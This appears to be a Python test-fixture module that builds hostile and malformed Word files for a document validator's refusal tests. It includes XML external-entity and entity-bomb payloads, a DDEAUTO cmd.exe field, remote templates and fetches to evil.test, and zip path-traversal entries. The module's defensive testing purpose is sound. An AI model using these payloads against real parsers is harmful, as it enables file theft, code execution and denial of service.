"""Word files that are none, that explode, or that reach for something outside: each with why it is refused."""

import io
import struct
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass

from huiyin.platform.word import Refusal

from tests.support.bombs import xlsx
from tests.support.word_files import (
    character,
    docx,
    package,
    packed,
    paragraph,
    part,
    relation,
    relations,
    run,
    simple_field,
    text,
)

_WML = "application/vnd.openxmlformats-officedocument.wordprocessingml"
_MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
_COMPOUND = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
_LAUGHS = '<!DOCTYPE d [<!ENTITY a "哈哈哈哈哈哈哈哈哈哈">' + "".join(
    f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in zip("abcdefgh", "bcdefghi", strict=True)
) + "]>"  # fmt: skip
_OUTSIDE = '<!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd">]>'


@dataclass(frozen=True, slots=True)
class Hostile:
    """A file, and the reason for which it is refused."""

    make: Callable[[], bytes]
    reason: Refusal


def _plain(overwrite: Mapping[str, str | bytes] | None = None, links: str = "", body: str = "") -> bytes:
    return packed(package(body or paragraph("合同"), links=links, overwrite=overwrite))


def _linked(kind: str, target: str) -> Callable[[], bytes]:
    return lambda: _plain(links=relation("rIdout", kind, target, external=True))


def with_template(target: str) -> bytes:
    """A document that names the template it was made from."""
    settings = relations(relation("rId1", "attachedTemplate", target, external=True))
    return _plain({"word/settings.xml": part("settings", ""), "word/_rels/settings.xml.rels": settings})


def _behind(prolog: str, name: str = "word/document.xml") -> Callable[[], bytes]:
    """A part with a DTD; its words call the entity."""

    def make() -> bytes:
        parts = package(paragraph("合同"))
        xml = str(parts.get(name, "<a/>"))
        declared, _, rest = xml.rpartition("?>")
        parts[name] = (declared + "?>" if declared else "") + prolog + rest.replace("合同", "&a;")
        return packed(parts)

    return make


def _behind_in_utf_16() -> bytes:
    xml = part("document", f"<w:body>{paragraph('合同')}</w:body>", _LAUGHS).replace("UTF-8", "UTF-16")
    return _plain({"word/document.xml": xml.encode("utf-16")})


def _encrypted_entry() -> bytes:
    data = bytearray(_plain())
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (start := data.find(mark, start)) >= 0:
            data[start + at] |= 1
            start += 4
    return bytes(data)


def _lying_size() -> bytes:
    """Its directory says that an entry of 120 MB unpacks to a hundred bytes."""
    data = bytearray(_plain({"word/document.xml": b" " * 120_000_000}))
    start = data.rindex(b"PK\x01\x02", 0, data.rindex(b"word/document.xml"))
    struct.pack_into("<L", data, start + 24, 100)
    return bytes(data)


def _renamed(*names: str) -> bytes:
    """Entries of these names beside the document's."""
    out = io.BytesIO(_plain())
    with zipfile.ZipFile(out, "a") as archive:
        for number, name in enumerate(names):
            entry = zipfile.ZipInfo(f"{number}p".ljust(len(name.encode()), "_"))
            archive.writestr(entry, "x")
    data = out.getvalue()
    for number, name in enumerate(names):
        data = data.replace(f"{number}p".ljust(len(name.encode()), "_").encode(), name.encode())
    return data


def _twice() -> bytes:
    out = io.BytesIO(_plain({"word/dOcument.xml": part("document", "<w:body/>")}))
    return out.getvalue()


def _squeezed() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_BZIP2) as archive:
        for name, content in package(paragraph("合同")).items():
            archive.writestr(name, content)
    return out.getvalue()


def _nested(depth: int) -> str:
    return "<w:tbl><w:tr><w:tc>" * depth + paragraph("深") + "</w:tc></w:tr></w:tbl>" * depth


def renderings(depth: int) -> str:
    """Alternatives in alternatives: whoever looks into each twice doubles the work at each step."""
    inside = paragraph("一")
    for _step in range(depth):
        inside = f"<mc:AlternateContent><mc:Choice>{inside}</mc:Choice><mc:Fallback>{inside if _step < 3 else ''}</mc:Fallback></mc:AlternateContent>"
    return inside


def _presentation() -> bytes:
    return packed(
        package("", main="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml")
    )


def _fetching(instruction: str) -> Callable[[], bytes]:
    return lambda: docx(paragraph(simple_field(instruction, run("结果"))))


def _fetching_in_runs() -> bytes:
    cut = run(inside=text(" INCLUDE", "instrText")) + run(
        inside=text('TEXT "http://evil.test/x.docx" ', "instrText")
    )
    return docx(paragraph(character("begin"), cut, character("separate"), "结果", character("end")))


HOSTILE: dict[str, Hostile] = {
    "old_doc": Hostile(lambda: _COMPOUND + "WordDocument".encode("utf-16-le"), Refusal.OLD_FORMAT),
    "password": Hostile(lambda: _COMPOUND + "EncryptedPackage".encode("utf-16-le"), Refusal.ENCRYPTED),
    "password_zip": Hostile(_encrypted_entry, Refusal.ENCRYPTED),
    "empty": Hostile(lambda: b"", Refusal.OTHER_FORMAT),
    "words": Hostile(lambda: "劳动合同".encode(), Refusal.OTHER_FORMAT),
    "pdf": Hostile(lambda: b"%PDF-1.7\n", Refusal.OTHER_FORMAT),
    "rtf": Hostile(lambda: b"{\\rtf1 x}", Refusal.OTHER_FORMAT),
    "html": Hostile(lambda: b"\xef\xbb\xbf <HTML><body>x</body></html>", Refusal.OTHER_FORMAT),
    "xlsx": Hostile(lambda: xlsx(""), Refusal.OTHER_FORMAT),
    "pptx": Hostile(_presentation, Refusal.OTHER_FORMAT),
    "zip": Hostile(lambda: packed({"a.txt": "x"}), Refusal.OTHER_FORMAT),
    "no_main": Hostile(lambda: _plain({"_rels/.rels": relations()}), Refusal.OTHER_FORMAT),
    "too_large": Hostile(lambda: b"PK\x03\x04" + bytes(10_000_000), Refusal.TOO_LARGE),
    "unpacked": Hostile(lambda: _plain({"word/media/a.png": bytes(101_000_000)}), Refusal.UNPACKS_TOO_LARGE),
    "packed_tightly": Hostile(
        lambda: _plain({"word/media/a.png": bytes(60_000_000)}), Refusal.UNPACKS_TOO_LARGE
    ),
    "lying_size": Hostile(_lying_size, Refusal.DAMAGED),
    "many_entries": Hostile(
        lambda: _plain({f"word/media/{at}": "" for at in range(2_001)}), Refusal.UNPACKS_TOO_LARGE
    ),
    "macros": Hostile(lambda: packed(package(paragraph("x"), main=_MACROS)), Refusal.MACROS),
    "macros_unsaid": Hostile(lambda: _plain({"word/vbaProject.bin": b"x"}), Refusal.MACROS),
    "macros_renamed": Hostile(
        lambda: _plain({"word/x.bin": b"x"}, relation("rIdv", "vbaProject", "x.bin")), Refusal.MACROS
    ),
    "active_x": Hostile(lambda: _plain({"word/activeX/activeX1.xml": "<a/>"}), Refusal.MACROS),
    "template": Hostile(lambda: with_template("https://evil.test/Normal.dotm"), Refusal.EXTERNAL),
    "template_of_a_server": Hostile(lambda: with_template("file:///\\\\evil\\Normal.dotm"), Refusal.EXTERNAL),
    "template_of_an_author": Hostile(lambda: with_template("file:///C:\\a\\合同.dotx"), Refusal.EXTERNAL),
    "linked_image": Hostile(_linked("image", "http://evil.test/a.png"), Refusal.EXTERNAL),
    "linked_object": Hostile(_linked("oleObject", "file:///c:/a.xlsx"), Refusal.EXTERNAL),
    "linked_file": Hostile(_linked("hyperlink", "file://///evil.test/share"), Refusal.EXTERNAL),
    "script_link": Hostile(_linked("hyperlink", "javascript:alert(1)"), Refusal.EXTERNAL),
    "header_link": Hostile(
        lambda: _plain(
            {"word/_rels/header9.xml.rels": relations(relation("a", "image", "//evil.test/a", True))}
        ),
        Refusal.EXTERNAL,
    ),
    "included": Hostile(_fetching(' INCLUDEPICTURE "http://evil.test/a.png" '), Refusal.EXTERNAL),
    "dde": Hostile(_fetching(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" '), Refusal.EXTERNAL),
    "included_in_runs": Hostile(_fetching_in_runs, Refusal.EXTERNAL),
    "other_text": Hostile(
        lambda: _plain({"word/a.html": "<p>x</p>"}, relation("rIda", "aFChunk", "a.html")),
        Refusal.OTHER_FILE_INSIDE,
    ),
    "sub_document": Hostile(
        lambda: _plain({"word/a.docx": b"x"}, relation("rIda", "subDocument", "a.docx")),
        Refusal.OTHER_FILE_INSIDE,
    ),
    "laughs": Hostile(_behind(_LAUGHS), Refusal.ENTITIES),
    "laughs_utf_16": Hostile(_behind_in_utf_16, Refusal.ENTITIES),
    "outside_entity": Hostile(_behind(_OUTSIDE), Refusal.ENTITIES),
    "outside_dtd": Hostile(_behind('<!DOCTYPE d SYSTEM "http://evil.test/a.dtd">'), Refusal.ENTITIES),
    "dtd_in_styles": Hostile(_behind(_OUTSIDE, "word/styles.xml"), Refusal.ENTITIES),
    "dtd_in_types": Hostile(_behind(_OUTSIDE, "[Content_Types].xml"), Refusal.ENTITIES),
    "dtd_in_relations": Hostile(_behind(_OUTSIDE, "word/_rels/document.xml.rels"), Refusal.ENTITIES),
    "dtd_in_custom": Hostile(_behind(_LAUGHS, "customXml/item1.xml"), Refusal.ENTITIES),
    "cut": Hostile(lambda: _plain()[:-200], Refusal.DAMAGED),
    "broken_xml": Hostile(lambda: _plain({"word/document.xml": "<w:document>"}), Refusal.DAMAGED),
    "wrong_bytes": Hostile(lambda: _plain({"word/document.xml": b"<a>\xff\xfe\xfd</a>"}), Refusal.DAMAGED),
    "no_body": Hostile(lambda: _plain({"word/document.xml": part("document", "")}), Refusal.DAMAGED),
    "other_packing": Hostile(_squeezed, Refusal.DAMAGED),
    "path_above": Hostile(lambda: _renamed("../../etc/cron.d/x"), Refusal.UNSAFE_PATH),
    "path_from_root": Hostile(lambda: _renamed("/etc/passwd"), Refusal.UNSAFE_PATH),
    "path_of_a_drive": Hostile(lambda: _renamed("C:/a"), Refusal.UNSAFE_PATH),
    "path_back": Hostile(lambda: _renamed("word\\..\\..\\a"), Refusal.UNSAFE_PATH),
    "two_of_a_name": Hostile(_twice, Refusal.UNSAFE_PATH),
    "target_above": Hostile(
        lambda: _plain(links=relation("a", "header", "../../../etc/passwd")), Refusal.UNSAFE_PATH
    ),
    "target_scheme": Hostile(
        lambda: _plain(links=relation("a", "header", "file:///etc/passwd")), Refusal.UNSAFE_PATH
    ),
    "deep": Hostile(lambda: docx(_nested(5_000)), Refusal.TOO_COMPLEX),
    "many_elements": Hostile(lambda: docx("<w:p/>" * 500_001), Refusal.TOO_COMPLEX),
}
